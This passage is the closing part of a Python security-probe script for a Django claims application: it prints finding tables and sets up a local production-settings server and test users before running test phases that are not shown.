    print(f"Claimdesk security probe: {result['server']}; marker {result['marker']}, {result['seconds']:.0f}s")
    print(f"{'phase':<9}" + "".join(f"{title:>10}" for _, title in columns))
    for name, row in [*result["phases"].items(), ("total", result["totals"])]:
        if name == "total":
            print("-" * (9 + 10 * len(columns)))
        print(f"{name:<9}" + "".join(f"{row[key]:>10,}" for key, _ in columns))
    extra = [(key, label) for key, label in CATEGORIES.items() if key not in dict(TABLE_COLUMNS)]
    print("also: " + "; ".join(f"{label} {result['totals'][key]}" for key, label in extra))
    print("reached: " + "; ".join(f"{label} {n:,}" for label, n in result["evidence"].items()))
    findings = result["findings"]
    if findings:
        print(f"\n{len(findings)} finding(s):")
        shown: Counter[tuple[str, str]] = Counter()
        for f in findings:
            key = (f["category"], f["where"].split("?")[0])
            shown[key] += 1
            if shown[key] <= 3:
                print(f"  [{f['category']}] {f['phase']}: {f['where']} — {f['detail']}")
        hidden = len(findings) - sum(min(n, 3) for n in shown.values())
        if hidden:
            print(f"  ... and {hidden} more like these (--json lists all)")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--json", action="store_true", help="Print the counts and findings as JSON.")
    parser.add_argument("--url", help="Probe a running production-settings server instead of starting one.")
    parser.add_argument("--seed", type=int, default=13, help="Seed of the random unicode values (default 13).")
    args = parser.parse_args()
    os.environ.update(_production_environment(args.url))

    import django

    django.setup()
    from django.core.management import call_command

    from bench.serving import start_gunicorn, stop, wait_until_up

    marker = f"prb{secrets.token_hex(4)}"
    started = time.monotonic()
    server = None
    print("security probe: setting up ...", file=sys.stderr, flush=True)
    if not args.url:
        SERVER_LOG.unlink(missing_ok=True)
        _fresh_database()
        call_command("migrate", verbosity=0)
        _manage(["generate_corpus", "--claims", str(CORPUS_CLAIMS), "--seed", "13"], settings="config.settings.dev")
        call_command("collectstatic", interactive=False, verbosity=0)
    base = args.url or f"http://127.0.0.1:{PORT}"
    probe = Probe(base, marker, args.seed)
    probe.run_worker = not args.url  # a running server has its own worker
    create_users(probe)
    try:
        if not args.url:
            # This process's environment: production settings, the probe's data folder. Its log: errors in full.
            server = start_gunicorn(PORT, {}, log=SERVER_LOG)
            wait_until_up(f"{base}/login/", time.monotonic() + 90)
        for role in ROLES:
            if role != "brute":
                probe.agents[role] = Agent(probe, role, probe.usernames[role], probe.passwords[role])
                if not probe.agents[role].login():
                    raise SystemExit(f"setup: {role} could not log in")
        seed_desk(probe)
        for name, run in PHASES:
            with probe.phase(name):
                run(probe)
    finally:
        if server is not None:
            stop(server)
    label = args.url or "gunicorn (production settings, 2 workers) on loopback"
    result = summary(probe, time.monotonic() - started, label)
    if args.json:
        print(json.dumps(result, indent=2, ensure_ascii=False))
    else:
        print_table(result)
        if server is not None:
            print(f"server log (tracebacks of any 5xx): {SERVER_LOG}")
    if any(result["totals"][key] for key in CATEGORIES):
        raise SystemExit(1)


if __name__ == "__main__":
    main()
